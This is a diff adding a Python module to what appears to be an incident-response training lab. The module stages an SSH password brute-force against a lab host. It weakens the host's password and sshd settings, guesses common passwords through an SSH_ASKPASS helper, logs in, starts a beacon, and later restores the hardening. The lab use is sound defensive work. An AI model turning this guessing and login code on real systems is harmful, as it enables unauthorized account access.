@@ -1,0 +1,87 @@
+"""The staged attack `brute-force`: passwords guessed over SSH until one is right, then a session and a beacon."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+from irflow.lab.intruder import Intruder, on_host, works
+from irflow.lab.lab import Lab
+from irflow.lab.model import LabHost
+from irflow.lab.vantage import ssh_argv
+
+ACCOUNT = "bob"
+PASSWORD = "summer2026"  # noqa: S105 - it is there to be guessed
+GUESSES = (
+    "123456 password letmein welcome1 qwerty monday1 dragon iloveyou abc123 admin123 football master sunshine "
+    "princess changeme superman"
+).split()
+_LOGIN_S = 15.0
+
+# Answers OpenSSH's question for a password (ssh(1), SSH_ASKPASS).
+_ASK = "#!/bin/sh\nprintf '%s\\n' \"$GUESS\"\n"
+
+_WEAKEN = """\
+printf '%s:%s\\n' "$1" "$2" | chpasswd
+sed -i 's/^PasswordAuthentication .*/PasswordAuthentication yes/' /etc/ssh/sshd_config
+kill -HUP "$(cat /run/sshd.pid)"
+"""
+_STRENGTHEN = """\
+usermod -p '*' "$1"
+sed -i 's/^PasswordAuthentication .*/PasswordAuthentication no/' /etc/ssh/sshd_config
+kill -HUP "$(cat /run/sshd.pid)"
+"""
+
+
+def weaken(lab: Lab, host: LabHost) -> None:
+    """The weakness that was there before: an account with a weak password, and an sshd that takes passwords."""
+    on_host(lab, host, _WEAKEN, ACCOUNT, PASSWORD)
+
+
+class BruteForce(Intruder):
+    """An attack under way on one host that was weakened before."""
+
+    def __init__(self, lab: Lab, host: LabHost) -> None:
+        """Guess, log in, start the beacon. Raises LabError when the right password is refused."""
+        self.host = host
+        self._ask = lab.layout.files / "ask-password"
+        super().__init__(lab)
+
+    def _break_in(self) -> None:
+        _write_program(self._ask)
+        with ThreadPoolExecutor(len(GUESSES)) as pool:
+            self.right = [guess for guess, got in zip(GUESSES, pool.map(self._guess, GUESSES), strict=True) if got]
+        self.session = self._session(self.host, self._login(PASSWORD))
+        self.beacon = self._beacon(self.host, self.session)
+
+    def failures(self) -> int:
+        """Failed logins of the attacker that the host's sshd has written down."""
+        address = self.lab.attacker_addresses[0]
+        wanted = f"Failed password for {ACCOUNT} from {address} "
+        return self._on_host(self.host, "cat /var/log/auth.log").decode(errors="replace").count(wanted)
+
+    def can_connect(self, timeout_s: float = 5.0) -> bool:
+        """Whether the right password opens the account now."""
+        return works(self.lab, self._login(PASSWORD, connect_s=2), timeout_s)
+
+    def clean(self) -> None:
+        """Take the password away, and the way in; end the attacker's processes. Twice is fine. Raises LabError."""
+        self._on_host(self.host, _STRENGTHEN, ACCOUNT)
+        self._end_processes(self.host, ACCOUNT)
+
+    def _guess(self, password: str) -> bool:
+        return works(self.lab, self._login(password), _LOGIN_S)
+
+    def _login(self, password: str, connect_s: int = int(_LOGIN_S)) -> Sequence[str]:
+        ssh = ssh_argv(self.lab, self.host, "attacker", user=ACCOUNT, connect_s=connect_s)
+        answer = ["env", f"GUESS={password}", f"SSH_ASKPASS={self._ask}", "SSH_ASKPASS_REQUIRE=force"]
+        options = ("BatchMode=no", "NumberOfPasswordPrompts=1", "PreferredAuthentications=password")
+        # The first value of an option counts: ours stand before those of a login with a key.
+        at = ssh.index("-F") + 2
+        return [*answer, *ssh[:at], *(part for one in options for part in ("-o", one)), *ssh[at:]]
+
+
+def _write_program(path: Path) -> None:
+    path.write_text(_ASK)
+    path.chmod(0o755)
